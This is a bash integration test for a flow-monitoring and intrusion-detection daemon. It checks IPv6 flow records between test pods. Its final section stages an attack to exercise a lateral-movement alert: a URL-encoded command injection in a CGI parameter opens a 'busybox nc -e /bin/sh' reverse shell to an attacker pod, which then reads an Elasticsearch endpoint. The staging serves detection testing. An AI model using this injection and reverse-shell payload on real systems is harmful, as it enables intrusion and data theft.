#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# IPv6 between two dual-stack pods made by the [bridge (host-local with an
# IPv4 and an IPv6 range), podsentry-cni] chain: a TCP transfer, UDP
# request/response and a refused connect over the pods' IPv6 addresses
# each give exactly one final flow record on the node, naming both pods
# and the processes of both ends (exec ids those of their process_exec
# records), with the packet and byte counts each way that nft counted in
# the client's netns; the record is in both pods' logs. The demo story
# told over IPv6 (web exploited, reverse shell to attacker, a read of
# elastic:9200) gives one critical lateral-movement alert naming them.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../cni/lib-cni.sh"
. "$(dirname "$0")/lib-detect.sh"
AL=$T/alerts.json

daemon_start --state-dir "$STATE" --log-dir "$T/logs" --flow-idle 2 --alerts "$AL" ||
	{ fail setup "daemon"; exit 1; }
cni_conflist
V6=fd$(printf '%02x' $((RANDOM % 256))):$(printf '%x' $((RANDOM + 1)))::/64
jq --arg v4 "$SUBNET" --arg v6 "$V6" '.plugins[0].ipam = {type: "host-local",
	ranges: [[{subnet: $v4}], [{subnet: $v6}]], dataDir: (env.T + "/ipam")}' \
	"$CONFLIST" >"$CONFLIST.new" && mv "$CONFLIST.new" "$CONFLIST"
# pod6 NAME NAMESPACE POD: a dual-stack pod (netns $P$NAME); prints its
# IPv6 address
pod6() {
	local ns
	ns=$(netns_add "$1") &&
		cni_add "$ns" "$ns" eth0 "IgnoreUnknown=1;K8S_POD_NAMESPACE=$2;K8S_POD_NAME=$3" >"$T/$1.json" ||
		return 1
	jq -r '.ips[] | select(.address | contains(":")) | .address' "$T/$1.json" | cut -d/ -f1
}
NA=${P}a NB=${P}b NW=${P}w NT=${P}t NE=${P}e
IPA=$(pod6 a shop client) && IPB=$(pod6 b shop server) && IPW=$(pod6 w demo web) &&
	IPT=$(pod6 t demo attacker) && IPE=$(pod6 e demo elastic) ||
	{ fail setup "cni add: $(cat "$T"/?.json)"; exit 1; }
[ -n "$IPA" ] && [ -n "$IPB" ] && [ -n "$IPW" ] && [ -n "$IPT" ] && [ -n "$IPE" ] &&
	ok setup/dual-stack-addresses || { fail setup/dual-stack-addresses "$(jq -c .ips "$T"/?.json)"; exit 1; }
# one IP packet per segment, counted as the flow counts it
ip -n "$NA" link set eth0 gso_max_segs 1
ip -n "$NB" link set eth0 gso_max_segs 1
# the addresses answer once duplicate address detection is done
dad_done() { # no address of the pods is still tentative
	local ns
	for ns in "$NA" "$NB" "$NW" "$NT" "$NE"; do
		ip -n "$ns" -6 addr show dev eth0 | grep -q tentative && return 1
	done
	return 0
}
wait_for 10 dad_done || fail setup/dad "$(ip -n "$NA" -6 addr show dev eth0)"
X=$T/export.json
BG=()
trap 'kill "${BG[@]}" 2>/dev/null; [ -n "${DAEMON_PID:-}" ] && kill -TERM "$DAEMON_PID" 2>/dev/null; wait 2>/dev/null' EXIT

# nft counters in the client's netns: what it sent to and received from
# the server's PORT over IPv6 (IP length, as the flow counts)
ip netns exec "$NA" nft -f - <<NFT
table inet ${P}c {
	counter tcp_out {}
	counter tcp_in {}
	counter udp_out {}
	counter udp_in {}
	chain out {
		type filter hook output priority 0;
		ip6 daddr $IPB tcp dport 5001 counter name tcp_out
		ip6 daddr $IPB udp dport 5002 counter name udp_out
	}
	chain in {
		type filter hook input priority 0;
		ip6 saddr $IPB tcp sport 5001 counter name tcp_in
		ip6 saddr $IPB udp sport 5002 counter name udp_in
	}
}
NFT
# nft_counts NAME: "packets bytes" of the client's counter NAME
nft_counts() {
	ip netns exec "$NA" nft -j list counter inet "${P}c" "$1" |
		jq -r '.nftables[] | select(.counter) | "\(.counter.packets) \(.counter.bytes)"'
}
# exec_of POD JQ_TEST: the exec id of POD's last process_exec whose joined
# args pass (a launcher's execs before the program's own pass too)
exec_of() {
	jq -r --arg pod "$1" "select(.type==\"process_exec\" and .pod.name==\$pod and
		(.process.args | join(\" \") | $2)) | .process.exec_id" "$X" | tail -n 1
}
# final PROTO PORT: the final flow records on the node to PORT over IPv6
final() {
	jq -c --arg proto "$1" --argjson port "$2" 'select(.type=="flow" and .flow.final and
		.flow.family=="ipv6" and .flow.protocol==$proto and .flow.dst.port==$port)' "$X"
}
# view: "src-pod dst-pod direction src-exec dst-exec" of a flow record
view() {
	jq -r '[.flow.src.pod.name, .flow.dst.pod.name, .flow.direction,
		.flow.src.process.exec_id // "none", .flow.dst.process.exec_id // "none"] | join(" ")'
}
counts() { jq -r '"\(.flow.packets_out) \(.flow.bytes_out) \(.flow.packets_in) \(.flow.bytes_in)"'; }

# --- TCP: the client reads 100 000 bytes the server sends
head -c 100000 /dev/urandom >"$T/blob"
ip netns exec "$NB" busybox nc -l -p 5001 -e /bin/cat "$T/blob" & BG+=($!)
wait_for 5 sh -c "ip netns exec $NB ss -ltn | grep -q ':5001 '"
ip netns exec "$NA" busybox nc "$IPB" 5001 </dev/null >"$T/got"
[ "$(wc -c <"$T/got")" = 100000 ] || fail tcp/transfer "$(wc -c <"$T/got") bytes read"
wait_for 15 has_record ".type==\"flow\" and .flow.final and .flow.family==\"ipv6\" and .flow.dst.port==5001"
sleep 0.5
n=$(final tcp 5001 | wc -l)
[ "$n" = 1 ] && ok tcp/one-record-on-the-node || fail tcp/one-record-on-the-node "$n records"
want="client server egress $(exec_of client 'test("nc .* 5001")') $(exec_of server 'test("-l -p 5001")')"
got=$(final tcp 5001 | head -n 1 | view)
[[ "$want" != *" none"* && "$want" = *:*:* ]] && [ "$got" = "$want" ] &&
	ok tcp/both-pods-and-processes || fail tcp/both-pods-and-processes "'$got' want '$want'"
want="$(nft_counts tcp_out) $(nft_counts tcp_in)"
got=$(final tcp 5001 | head -n 1 | counts)
[ "$got" = "$want" ] && ok tcp/counts-exact || fail tcp/counts-exact "flow '$got' nft '$want'"
x=$(final tcp 5001 | head -n 1 | jq -r '[.flow.src.ip, .flow.dst.ip, .flow.state, .flow.reason] | join(" ")')
[ "$x" = "$IPA $IPB closed fin" ] && ok tcp/addresses-and-end || fail tcp/addresses-and-end "$x"

# --- UDP: 3 requests, each answered
ip netns exec "$NB" python3 -c '
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.bind(("::", 5002))
for i in range(3):
    d, a = s.recvfrom(200)
    s.sendto(d * 2, a)' & BG+=($!)
wait_for 5 sh -c "ip netns exec $NB ss -lun | grep -q ':5002 '"
ip netns exec "$NA" python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s.settimeout(5)
for i in range(3):
    s.sendto(b"q" * 40, (sys.argv[1], 5002))
    s.recv(200)' "$IPB" || fail udp/exchange "no answer"
wait_for 15 has_record ".type==\"flow\" and .flow.final and .flow.family==\"ipv6\" and .flow.dst.port==5002"
sleep 0.5
n=$(final udp 5002 | wc -l)
[ "$n" = 1 ] && ok udp/one-record-on-the-node || fail udp/one-record-on-the-node "$n records"
want="client server egress $(exec_of client 'contains("q\" * 40")') $(exec_of server 'contains("5002")')"
got=$(final udp 5002 | head -n 1 | view)
[[ "$want" != *" none"* && "$want" = *:*:* ]] && [ "$got" = "$want" ] &&
	ok udp/both-pods-and-processes || fail udp/both-pods-and-processes "'$got' want '$want'"
want="$(nft_counts udp_out) $(nft_counts udp_in)"
got=$(final udp 5002 | head -n 1 | counts)
[ "$want" = "3 264 3 384" ] && [ "$got" = "$want" ] && ok udp/counts-exact ||
	fail udp/counts-exact "flow '$got' nft '$want' (want 3 264 3 384)"

# --- refused: a connect to a closed port of the server
ip netns exec "$NA" busybox nc -w 1 "$IPB" 5009 </dev/null 2>/dev/null
wait_for 15 has_record ".type==\"flow\" and .flow.final and .flow.family==\"ipv6\" and .flow.dst.port==5009"
x=$(final tcp 5009 | jq -r '[.flow.state, .flow.src.pod.name, .flow.dst.pod.name,
	.flow.src.process.exec_id // "none"] | join(" ")')
want="refused client server $(exec_of client 'test("nc .* 5009")')"
[[ "$want" != *" " ]] && [ "$x" = "$want" ] && ok tcp/refused-names-caller || fail tcp/refused-names-caller "'$x' want '$want'"

# --- both pods' logs
CL=$T/logs/shop/client.log SV=$T/logs/shop/server.log
for port in 5001 5002; do
	has_record ".type==\"flow\" and .flow.family==\"ipv6\" and .flow.dst.port==$port" "$CL" &&
		has_record ".type==\"flow\" and .flow.family==\"ipv6\" and .flow.dst.port==$port" "$SV" ||
		{ fail pod-logs/in-both "port $port: $(grep -c '"ipv6"' "$CL" "$SV" | tr '\n' ' ')"; continue; }
	ok "pod-logs/in-both-$port"
done

# --- the story over IPv6: web exploited, reverse shell to attacker, elastic
vuln_www "$T/www/web"
mkdir -p "$T/www/e" && echo green >"$T/www/e/index.html"
ip netns exec "$NW" busybox httpd -f -p 80 -h "$T/www/web" & BG+=($!)
ip netns exec "$NE" busybox httpd -f -p 9200 -h "$T/www/e" & BG+=($!)
wait_for 5 sh -c "ip netns exec $NW ss -ltn | grep -q ':80 ' && ip netns exec $NE ss -ltn | grep -q ':9200 '"
ip netns exec "$NT" sh -c "(sleep 3; echo 'busybox wget -q -O - http://[$IPE]:9200/'; sleep 2; echo exit) |
	busybox nc -l -p 4444 >$T/session.txt" & BG+=($!)
wait_for 5 sh -c "ip netns exec $NT ss -ltn | grep -q ':4444 '"
ip netns exec "$NT" timeout 15 busybox wget -q -O /dev/null \
	"http://[$IPW]/cgi-bin/hello?name=x%3Bbusybox%20nc%20$IPT%204444%20-e%20/bin/sh"
grep -q green "$T/session.txt" && ok story/attacker-read-elastic || fail story/attacker-read-elastic "$(cat "$T/session.txt")"
wait_for 8 sh -c "[ \$(jq -c 'select(.alert.rule==\"lateral-movement\" and .pod.name==\"web\")' $AL 2>/dev/null | grep -c .) -ge 1 ]"
sleep 2
lm=$(alerts_of web lateral-movement)
[ "$(echo "$lm" | grep -c .)" = 1 ] && ok story/one-lateral-movement ||
	fail story/one-lateral-movement "$(echo "$lm" | grep -c .) alerts: $(jq -r .alert.rule "$AL" 2>/dev/null | sort | uniq -c | tr '\n' ' ')"
echo "$lm" | jqe --arg w "$IPW" --arg e "$IPE" '.alert.severity=="critical" and
	([.evidence.connections[] | select(.src.pod.name=="web" and .src.ip==$w and
		.dst.pod.name=="elastic" and .dst.ip==$e and .dst.port==9200)] | length) == 1' &&
	ok story/names-web-and-elastic-by-ipv6 || fail story/names-web-and-elastic-by-ipv6 "$lm"
echo "$lm" | jqe --arg t "$IPT" '.evidence.foothold.channel.remote | .ip==$t and .port==4444 and .pod.name=="attacker"' &&
	ok story/reverse-shell-channel-ipv6 || fail story/reverse-shell-channel-ipv6 "$(echo "$lm" | jq -c .evidence.foothold)"

daemon_stop
kill "${BG[@]}" 2>/dev/null
for n in a b w t e; do cni_del "$P$n" "$P$n" >/dev/null; done
